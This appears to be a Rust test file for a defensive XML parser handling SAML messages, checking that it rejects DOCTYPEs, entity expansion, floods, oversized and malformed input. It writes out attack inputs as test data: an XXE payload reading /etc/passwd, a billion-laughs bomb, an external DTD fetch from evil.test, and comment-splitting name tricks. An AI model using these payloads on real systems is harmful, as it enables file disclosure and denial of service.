use proptest::prelude::*;

use super::*;

const REQUEST: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol"
    xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_abc" Version="2.0">
  <saml:Issuer>https://sp.test.example.dk</saml:Issuer>
  <!-- a comment -->
  <samlp:NameIDPolicy Format="urn:oasis:names:tc:SAML:2.0:nameid-format:persistent"/>
</samlp:AuthnRequest>"#;

fn parse_message(text: &str) -> Result<Element, XmlError> {
    parse(text.as_bytes(), Limits::MESSAGE)
}

#[test]
fn a_namespaced_message_parses_into_resolved_names() {
    let root = parse_message(REQUEST).unwrap();

    assert!(root.is(crate::saml::PROTOCOL_NS, "AuthnRequest"));
    assert_eq!(root.attribute("ID"), Some("_abc"));
    let issuer = root
        .only_child(crate::saml::ASSERTION_NS, "Issuer")
        .unwrap();
    assert_eq!(issuer.simple_text(), Some("https://sp.test.example.dk"));
    assert_eq!(root.children.len(), 2);
}

#[test]
fn any_doctype_is_refused_before_entities_are_considered() {
    let external = r#"<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#;
    let laughs = concat!(
        r#"<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">"#,
        r#"<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;">]><lolz>&lol3;</lolz>"#
    );
    let parameter = r#"<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.test/x.dtd"> %p;]><r/>"#;

    for document in [external, laughs, parameter, "<!DOCTYPE r><r/>"] {
        assert_eq!(
            parse_message(document),
            Err(XmlError::Doctype),
            "{document}"
        );
    }
}

#[test]
fn undeclared_entities_and_processing_instructions_are_malformed() {
    assert_eq!(parse_message("<r>&x;</r>"), Err(XmlError::Malformed));
    assert_eq!(
        parse_message("<r><?php echo 1 ?></r>"),
        Err(XmlError::Malformed)
    );
    assert_eq!(parse_message("<r>&lt;&#65;&#x42;</r>").unwrap().text, "<AB");
}

#[test]
fn structural_caps_stop_attribute_namespace_and_depth_floods() {
    let attributes: String = (0..80_000)
        .map(|index| format!(" a{index}=\"v\""))
        .collect();
    let namespaces: String = (0..100_000)
        .map(|index| format!(" xmlns:p{index}=\"urn:x:{index}\""))
        .collect();
    let deep = format!("{}{}", "<a>".repeat(10_000), "</a>".repeat(10_000));
    let roomy = Limits {
        max_bytes: 8 * 1024 * 1024,
        ..Limits::MESSAGE
    };

    let attribute_flood = parse(format!("<r{attributes}/>").as_bytes(), roomy);
    let namespace_flood = parse(format!("<r{namespaces}/>").as_bytes(), roomy);
    let depth_flood = parse(deep.as_bytes(), roomy);

    assert_eq!(attribute_flood, Err(XmlError::LimitExceeded));
    assert_eq!(namespace_flood, Err(XmlError::LimitExceeded));
    assert_eq!(depth_flood, Err(XmlError::LimitExceeded));
}

#[test]
fn oversized_documents_are_refused_before_parsing() {
    let large = format!("<r>{}</r>", "x".repeat(Limits::MESSAGE.max_bytes));

    assert_eq!(parse_message(&large), Err(XmlError::TooLarge));
}

#[test]
fn a_comment_inside_a_name_never_truncates_it() {
    let root = parse_message("<NameID>victim@x<!---->.evil</NameID>").unwrap();

    assert_eq!(root.simple_text(), Some("victim@x.evil"));
}

#[test]
fn mixed_content_has_no_simple_text() {
    let root = parse_message("<Issuer>https://sp<b/>.evil</Issuer>").unwrap();

    assert_eq!(root.simple_text(), None);
}

#[test]
fn malformed_shapes_are_refused() {
    for document in [
        "",
        "<r>",
        "<r></s>",
        "<r/><r/>",
        "text<r/>",
        "<p:r/>",
        "<r a=\"1\" a=\"2\"/>",
        "<r>\u{0}</r>",
    ] {
        assert!(
            parse_message(document).is_err(),
            "{document:?} was accepted"
        );
    }
}

#[test]
fn the_tree_keeps_prefixes_declarations_and_text_positions() {
    let root = parse_message(
        "<p:r xmlns:p=\"urn:p\" xmlns=\"urn:d\" p:a=\"1\">one<c/>two<!-- x -->three<d/></p:r>",
    )
    .unwrap();

    assert_eq!(root.prefix.as_deref(), Some("p"));
    assert_eq!(
        root.declarations,
        [
            Declaration {
                prefix: Some("p".into()),
                uri: "urn:p".into()
            },
            Declaration {
                prefix: None,
                uri: "urn:d".into()
            },
        ]
    );
    assert_eq!(root.attributes[0].prefix.as_deref(), Some("p"));
    assert_eq!(root.text, "onetwothree");
    assert_eq!(root.text_runs, ["one", "twothree", ""]);
    assert_eq!(root.children[0].namespace.as_deref(), Some("urn:d"));
    assert_eq!(root.children[0].text_runs, [""]);
}

#[test]
fn namespace_shapes_that_would_make_two_views_differ_are_refused() {
    for document in [
        // One expanded attribute name written twice under two prefixes.
        "<r xmlns:a=\"urn:x\" xmlns:b=\"urn:x\" a:n=\"1\" b:n=\"2\"/>",
        // A namespace URI whose raw and parsed forms differ.
        "<r xmlns:a=\"urn:x&amp;y\"/>",
        "<r xmlns=\"urn:&#120;\"/>",
    ] {
        assert_eq!(
            parse_message(document),
            Err(XmlError::Malformed),
            "{document}"
        );
    }
}

proptest! {
    #[test]
    fn arbitrary_bytes_never_panic(bytes in proptest::collection::vec(any::<u8>(), 0..2048)) {
        let _ = parse(&bytes, Limits::MESSAGE);
    }

    #[test]
    fn truncated_messages_never_panic_and_are_refused(cut in 0..REQUEST.len()) {
        let truncated = &REQUEST.as_bytes()[..cut];
        prop_assert!(parse(truncated, Limits::MESSAGE).is_err());
    }
}
